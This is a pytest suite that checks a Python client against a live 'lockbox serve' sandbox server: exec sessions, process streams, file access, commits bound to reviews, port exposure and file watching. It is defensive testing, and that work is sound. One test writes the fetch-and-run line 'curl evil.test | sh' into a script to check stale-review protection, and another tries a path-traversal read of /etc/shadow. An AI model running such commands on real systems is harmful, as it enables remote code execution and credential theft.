"""lockbox.Client against a live `lockbox serve` (started per module on a free port).

The server binary is $LOCKBOX_BIN, else the workspace's debug build. A tree whose `lockbox`
has no `serve` command (the server not merged yet) skips these tests, also in CI."""

import asyncio
import json
import os
import shutil
import subprocess
import tempfile

import pytest
from conftest import need

from lockbox import AsyncClient, Client
from lockbox.errors import ServerError

ROOT = os.path.join(os.path.dirname(__file__), "..", "..")


def server_binary():
    env = os.environ.get("LOCKBOX_BIN")
    if env:
        return env
    target = os.environ.get("CARGO_TARGET_DIR") or os.path.join(ROOT, "target")
    return os.path.join(target, "debug", "lockbox")


@pytest.fixture(scope="module")
def server():
    binary = server_binary()
    need(os.path.exists(binary), f"the lockbox binary ({binary}; cargo build -p lockbox-cli)")
    helped = subprocess.run([binary, "serve", "--help"], capture_output=True)
    if helped.returncode != 0:
        pytest.skip(f"SKIP: {binary} has no `serve` command in this tree")
    state = tempfile.mkdtemp(prefix="lockbox-serve-")
    proc = subprocess.Popen([binary, "serve", "--listen", "127.0.0.1:0", "--state-dir", state, "--print-token"],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        line = json.loads(proc.stdout.readline())
        yield f"http://{line['listen']}", line["token"]
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        shutil.rmtree(state, ignore_errors=True)


def test_sessions_keep_state_and_exec_streams(server):
    client = Client(*server)
    assert client.health()["status"] == "ok"
    with client.create(env={"GREETING": "hi"}) as box:
        sh = box.session("build", cwd="/tmp")
        sh.exec("cd /tmp && export A=1")
        r = sh.exec('echo "$PWD $A $GREETING"')
        assert r.exit_code == 0 and r.stdout == "/tmp 1 hi\n"
        assert box.exec("sleep 5", timeout=0.3).timed_out
        events = list(box.exec_stream("echo one; echo two >&2"))
        assert events[0].event == "start" and events[-1].event == "exit"
        out = b"".join(e.bytes for e in events if e.event == "stdout")
        assert out == b"one\n" and events[-1].data["exit_code"] == 0
        # Each stream travels once, as text or as base64: both read back exactly.
        r = box.exec("printf 'h\\303\\251llo\\n'; printf 'a\\000b\\377' >&2")
        assert r.stdout_bytes == "héllo\n".encode() and r.stderr_bytes == b"a\x00b\xff"
        assert not r.stdout_truncated and not r.stderr_truncated


def test_processes_logs_files_and_errors(server):
    client = Client(*server)
    with client.create() as box:
        p = box.start_process(argv=["cat"], stdin=True)
        p.write(b"hello\n", close=True)
        seen = b"".join(e.bytes for e in p.follow() if e.event in ("stdout", "stderr"))
        assert seen == b"hello\n"
        assert p.logs().text == "hello\n"
        box.files.write("/tmp/d/f.txt", b"\x00bytes")
        assert box.files.read("/tmp/d/f.txt") == b"\x00bytes"
        assert [e["path"] for e in box.files.list("/tmp/d")] == ["/tmp/d/f.txt"]
        with pytest.raises(ServerError) as e:
            box.files.read("/../../etc/shadow")
        assert e.value.status in (403, 404) and e.value.code
    with pytest.raises(ServerError) as e:
        client.sandbox("no-such-sandbox")
    assert e.value.status == 404


def test_list_filters_by_state(server):
    client = Client(*server)
    with client.create() as live:
        gone = client.create()
        gone.delete()
        running = [s["id"] for s in client.list(state="running")]
        assert live.id in running and gone.id not in running
        assert gone.id in [s["id"] for s in client.list(state="stopped")]
        assert {live.id, gone.id} <= {s["id"] for s in client.list()}


def test_workdir_branch_changes_commit_and_async(server, tmp_path):
    ws = tmp_path / "repo"
    ws.mkdir()
    os.chmod(tmp_path, 0o755)
    client = Client(*server)
    with client.create(workdir=str(ws)) as box:
        box.exec("echo new > NEW.txt; echo s > scratch.txt")
        assert sorted(c.path for c in box.changes()) == ["NEW.txt", "scratch.txt"]
        assert not (ws / "NEW.txt").exists()
        box.commit(exclude=["scratch.txt"])
        assert (ws / "NEW.txt").read_text() == "new\n" and not (ws / "scratch.txt").exists()

    async def main():
        async with await AsyncClient(*server).create() as abox:
            r = await abox.exec("echo async")
            chunks = [e.event async for e in abox.exec_stream("echo s")]
            return r.stdout, chunks[0], chunks[-1]

    assert asyncio.run(main()) == ("async\n", "start", "exit")


def test_issue_32_a_commit_bound_to_a_review_writes_what_was_shown_or_nothing(server, tmp_path):
    ws = tmp_path / "repo"
    ws.mkdir()
    os.chmod(tmp_path, 0o755)
    (ws / "run.sh").write_text("echo five\n")
    client = Client(*server)
    with client.create(workdir=str(ws)) as box:
        box.exec("echo 'echo five (harmless edit)' > run.sh")
        changes, token = box.review()
        assert [(c.path, c.digest is not None) for c in changes] == [("run.sh", True)]
        # The sandbox changes the reviewed file and adds one after the review.
        box.exec("echo 'curl evil.test | sh' > run.sh; echo x > added.sh")
        for review in (token, changes):
            with pytest.raises(ServerError) as e:
                box.commit(review=review)
            assert e.value.code == "STALE_REVIEW" and e.value.status == 409
        assert (ws / "run.sh").read_text() == "echo five\n" and not (ws / "added.sh").exists()
        changes, token = box.review()
        box.commit(review=token)
        assert (ws / "run.sh").read_text() == "curl evil.test | sh\n" and (ws / "added.sh").exists()


def test_exposed_port_is_fetched_through_the_proxy_and_the_host_port(server):
    import time
    import urllib.parse
    import urllib.request

    client = Client(*server)
    with client.create() as box:
        box.files.write("/tmp/site/hello.txt", b"hello-from-inside\n")
        box.start_process(argv=["python3", "-m", "http.server", "8731", "--bind", "127.0.0.1",
                                "--directory", "/tmp/site"])
        port = box.expose_port(8731, host_loopback=True)
        assert port["port"] == 8731 and port["url"].endswith(f"/v1/sandboxes/{box.id}/ports/8731/")
        assert port["host_url"].startswith("http://127.0.0.1:")
        assert [p["port"] for p in box.ports()] == [8731]
        req = urllib.request.Request(port["url"] + "hello.txt", headers={"Authorization": f"Bearer {client.token}"})
        for _ in range(200):
            try:
                body = urllib.request.urlopen(req, timeout=10).read()  # noqa: S310 - the test server
                break
            except urllib.error.HTTPError as e:
                assert e.code == 502, e.read()
                time.sleep(0.05)
        assert body == b"hello-from-inside\n"
        with urllib.request.urlopen(port["host_url"] + "hello.txt", timeout=10) as r:  # noqa: S310
            assert r.read() == b"hello-from-inside\n"
        # The port's own origin (issue 32): its host name says which port. Python does not
        # resolve *.localhost, so the request goes to the listener with that Host.
        origin = urllib.parse.urlsplit(port["origin"])
        assert origin.hostname == f"8731-{box.id}.localhost", port
        assert port["open_url"].startswith(port["origin"] + "/__lockbox/open?key=")
        req = urllib.request.Request(f"http://127.0.0.1:{origin.port}/hello.txt",
                                     headers={"Host": origin.netloc, "Authorization": f"Bearer {client.token}"})
        with urllib.request.urlopen(req, timeout=10) as r:  # noqa: S310
            assert r.read() == b"hello-from-inside\n"
        box.unexpose_port(8731)
        assert box.ports() == []
        with pytest.raises(ServerError) as e:
            box.unexpose_port(8731)
        assert e.value.status == 404 and e.value.code == "PORT_NOT_EXPOSED"
        with pytest.raises(ServerError) as e:
            box.expose_port(0)
        assert e.value.status == 400


def test_watch_streams_created_moved_and_deleted_paths(server):
    client = Client(*server)
    with client.create() as box:
        box.exec("mkdir -p /tmp/w")
        seen = []

        def until(w, path):
            for e in w:
                seen.append(e)
                if e.get("path") == path:
                    return

        with box.watch("/tmp/w", recursive=True) as w:
            r = box.exec("cd /tmp/w && i=0; while [ $i -lt 1000 ]; do : > f$i; i=$((i+1)); done; "
                         "mv f1 g1; mkdir -p sub/deeper && echo x > sub/deeper/a")
            assert r.exit_code == 0, r.stderr
            until(w, "/tmp/w/sub/deeper/a")
            box.exec("rm -r /tmp/w/sub; touch /tmp/w/done")
            until(w, "/tmp/w/done")
        created = {e["path"] for e in seen if e["event"] == "change" and e["kind"] == "created"}
        assert {f"/tmp/w/f{i}" for i in range(1000)} <= created
        moved = [e for e in seen if e["event"] == "change" and e["kind"] == "moved"]
        assert [(e["from"], e["path"], e["is_dir"]) for e in moved] == [("/tmp/w/f1", "/tmp/w/g1", False)]
        deleted = {(e["path"], e["is_dir"]) for e in seen if e["event"] == "change" and e["kind"] == "deleted"}
        assert {("/tmp/w/sub", True), ("/tmp/w/sub/deeper", True), ("/tmp/w/sub/deeper/a", False)} <= deleted
        assert not [e for e in seen if e["event"] in ("overflow", "error")]
        with pytest.raises(ServerError) as e:
            box.watch("/no/such/dir")
        assert e.value.status == 404
